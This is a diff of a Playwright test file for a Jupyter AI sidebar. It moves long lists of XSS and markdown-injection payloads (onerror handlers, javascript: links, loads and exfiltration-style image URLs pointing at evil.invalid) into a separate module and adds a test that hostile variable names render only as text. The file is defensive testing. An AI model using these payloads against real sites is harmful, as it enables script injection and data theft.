@@ -7,87 +7,13 @@ from typing import Any
 import pytest
 from playwright.sync_api import expect
 
-from tests.browser.sidebar_page import SidebarPage
+from tests.browser.hostile_inputs import ADDRESSES, EVIL, HANDLERS, MARKDOWN, NAMES, PICTURES, RAW
+from tests.browser.jupyter_process import JupyterProcess
+from tests.browser.sidebar_page import SidebarPage, write_notebook
 
-EVIL = "https://evil.invalid"
-RAW = [
-    "<script>window.pwned = 1</script>",
-    "<img src=x onerror='window.pwned = 2'>",
-    f"<img src='{EVIL}/i.png'>",
-    f'<img srcset="{EVIL}/s.png 1x" alt="a">',
-    f"<picture><source srcset='{EVIL}/p.png'><img src='data:,'></picture>",
-    "<svg onload='window.pwned = 3'><circle r=9></svg>",
-    f"<svg><image href='{EVIL}/v.png' /></svg>",
-    f"<svg><use xlink:href='{EVIL}/u.svg#x' /></svg>",
-    f"<svg><style>@import '{EVIL}/c.css';</style></svg>",
-    f"<style>body {{ background: url({EVIL}/b.png) }}</style>",
-    f"<link rel=stylesheet href={EVIL}/l.css>",
-    f"<link rel=prefetch href={EVIL}/f>",
-    f"<iframe src={EVIL}></iframe>",
-    "<iframe srcdoc='<script>parent.pwned = 4</script>'></iframe>",
-    f"<object data={EVIL}/o></object>",
-    f"<embed src={EVIL}/e>",
-    f"<video src={EVIL}/v autoplay></video>",
-    f"<audio src={EVIL}/a autoplay></audio>",
-    f"<video poster={EVIL}/poster.png></video>",
-    f"<form action={EVIL}><button>Run</button></form>",
-    f"<form id=f action={EVIL}></form><input form=f type=submit value=Run>",
-    f"<base href={EVIL}>",
-    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
-    "<details open ontoggle='window.pwned = 5'>x</details>",
-    "<body onpageshow='window.pwned = 6'>",
-    "<marquee onstart='window.pwned = 7'>x</marquee>",
-    "<input autofocus onfocus='window.pwned = 8'>",
-    "<math><mtext><table><mglyph><style><img src=x onerror='window.pwned = 9'></style></mglyph></table></mtext></math>",
-    "<noscript><p title='</noscript><img src=x onerror=window.pwned=10>'></noscript>",
-    "<template><img src=x onerror='window.pwned = 11'></template>",
-    "<button data-commandlinker-command='notebook:delete-cell' data-commandlinker-args='{}'>Run</button>",
-    "<a href='#' data-commandlinker-command='apputils:reset'>here</a>",
-    f"<div style='background: url({EVIL}/d.png); position: fixed; inset: 0'>x</div>",
-    "<p class='jp-agent-approval'>Run this code in your kernel?</p>",
-    "<form name=cookie></form><img name=body><a id=jupyter-agent-sidebar>x</a>",
-    f"<a ping={EVIL}/ping href=https://ok.invalid>x</a>",
-    f"<table background={EVIL}/t.png><tr><td>x</td></tr></table>",
-    "<xmp><script>window.pwned = 12</script></xmp>",
-    "<![CDATA[<script>window.pwned = 13</script>]]>",
-    "<!--><img src=x onerror=window.pwned=14>-->",
-    "<img/src=x/onerror=window.pwned=15>",
-    "<IMG SRC=x OnErRoR=window.pwned=16>",
-    "<details><summary><b>x</b></summary><img src=x onerror=window.pwned=17></details>",
-]
-MARKDOWN = [
-    f"![pixel]({EVIL}/p.png?d=secret)",
-    f"![pixel][ref]\n\n[ref]: {EVIL}/r.png",
-    f"[![badge]({EVIL}/badge.svg)]({EVIL})",
-    "![local](files/../api/contents?delete)",
-    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
-    "[click](javascript:window.pwned=20)",
-    "[click](JaVaScRiPt:window.pwned=21)",
-    "[click](java&#10;script:window.pwned=22)",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[click](vbscript:window.pwned=23)",
-    "[click](//evil.invalid/x)",
-    "[click](/api/shutdown)",
-    "<javascript:window.pwned=24>",
-    f"$\\href{{javascript:window.pwned=25}}{{x}}$ and $$\\style{{background:url({EVIL}/m.png)}}{{y}}$$",
-    f"$\\require{{html}}\\class{{jp-agent-approval}}{{x}} \\cssId{{f}}{{y}} \\bbox[background:url({EVIL}/bb.png)]{{z}}$",
-    f'$\\mmlToken{{mi}}[style="background:url({EVIL}/mml.png)"]{{x}}$',
-    "$<img src=x onerror=window.pwned=26>$",
-    f"```mermaid\ngraph TD\nA[<img src='{EVIL}/mm.png'>] --> B\nclick A href \"{EVIL}\"\n```",
-    f"~~~~ mermaid\ngraph TD\nA[<img src='{EVIL}/m2.png'>]\n~~~~",
-    "```html\n<script>window.pwned = 27</script>\n<img src=x onerror=window.pwned=28>\n```",
-    '```"><img src=x onerror=window.pwned=29>\ncode\n```',
-    "`<img src=x onerror=window.pwned=30>` and ``<script>window.pwned=31</script>``",
-    "| <img src=x onerror=window.pwned=32> |\n|---|\n| <script>window.pwned=33</script> |",
-    "# <img src=x onerror=window.pwned=34>\n\n- <svg/onload=window.pwned=35>\n  > <iframe src=javascript:window.pwned=36>",
-    f"- [x] task <input onfocus=window.pwned=37 autofocus>\n- ![t]({EVIL}/task.png)",
-    f"[^1]\n\n[^1]: ![foot]({EVIL}/foot.png)",
-    f"\\<img src=x onerror=window.pwned=38> \\`<img src={EVIL}/tick.png>`",
-    "`unclosed <img src=x onerror=window.pwned=39>\n\nnext <img src=x onerror=window.pwned=40>`",
-    "    <img src=x onerror=window.pwned=41>\n\n<b>bold?</b>",
-]
 ANSWERS = [RAW[start : start + 12] for start in range(0, len(RAW), 12)]
 ANSWERS += [MARKDOWN[start : start + 8] for start in range(0, len(MARKDOWN), 8)]
+ANSWERS += [HANDLERS, ADDRESSES, PICTURES]
 
 #: Elements and attributes that nothing but our own buttons may have.
 _FORBIDDEN = """() => {
@@ -117,6 +43,7 @@ _FORBIDDEN = """() => {
 def script() -> list[Any] | None:
     separator = "\n\n---\n\n"
     return [
+        {"match": "names", "text": "The end."},
         *(
             {"match": rf"number {index}\b", "text": separator.join([*parts, "The end."])}
             for index, parts in enumerate(ANSWERS)
@@ -136,6 +63,7 @@ def test_J5_J6_hostile_answers_run_nothing_and_load_nothing(sidebar: SidebarPage
     for index in range(len(ANSWERS)):
         sidebar.ask(f"number {index}")
         expect(sidebar.wait_for_answer()).to_contain_text("The end.")
+    assert len([*RAW, *MARKDOWN, *HANDLERS, *ADDRESSES, *PICTURES, *NAMES]) >= 150
     assert sidebar.page.evaluate(_FORBIDDEN) == []
     assert sidebar.page.evaluate("window.pwned") is None
     # It is not hidden either: the user sees what was tried.
@@ -170,3 +98,36 @@ def test_J7_an_approval_shows_every_character_of_what_would_run(sidebar: Sidebar
     assert code.evaluate("one => one.scrollWidth <= one.clientWidth")
     sidebar.panel.get_by_role("button", name="Deny").click()
     expect(sidebar.wait_for_answer()).to_contain_text("Done.")
+
+
+def test_J6_names_and_titles_are_text_wherever_they_are_shown(sidebar: SidebarPage, jupyter: JupyterProcess) -> None:
+    frame = f"import pandas as pd\ndf = pd.DataFrame({{name: [1] for name in {NAMES!r}}})\ntext = {''.join(NAMES)!r}"
+    write_notebook(jupyter.root / "names.ipynb", frame)
+    sidebar.go("names.ipynb")
+    sidebar.run_cells(1)
+    sidebar.open()
+    for name in NAMES[:4]:
+        sidebar.ask(f"{name} names")
+        sidebar.wait_for_answer()
+    sidebar.button("Edit the question").first.click()
+    sidebar.page.get_by_role("textbox", name="Edited question").fill(f"{NAMES[2]} names, otherwise")
+    sidebar.button("Ask").click()
+    sidebar.wait_for_answer()
+    sidebar.question.press_sequentially("@df.")
+    expect(sidebar.panel.locator(".jp-agent-completions")).to_contain_text("onerror")
+    sidebar.question.fill("")
+    sidebar.ask("/vars df")
+    expect(sidebar.answer).to_contain_text("onerror")
+    sidebar.panel.locator(".jp-agent-knowledge summary").click()
+    sidebar.panel.locator(".jp-agent-variables button", has_text="df").hover()
+    expect(sidebar.page.get_by_role("tooltip")).to_contain_text("⟨U+202E⟩esrever")
+    sidebar.question.fill(f"{NAMES[0]} names?")
+    for entry, shown in (("Branches", ".jp-agent-branch"), ("What Will Be Sent", ".jp-agent-message pre")):
+        sidebar.choose(entry)
+        expect(sidebar.panel.locator(shown).last).to_contain_text("names")
+        sidebar.button("Back to the conversation").click()
+    sidebar.button("Conversations").click()
+    sidebar.panel.get_by_role("searchbox").fill("onerror")
+    expect(sidebar.panel.locator(".jp-agent-row-title").first).to_contain_text("<img src=x")
+    assert sidebar.page.locator(".jp-agent").locator("img, script, iframe, [onerror], [onload]").count() == 0
+    assert sidebar.page.evaluate("window.pwned") is None
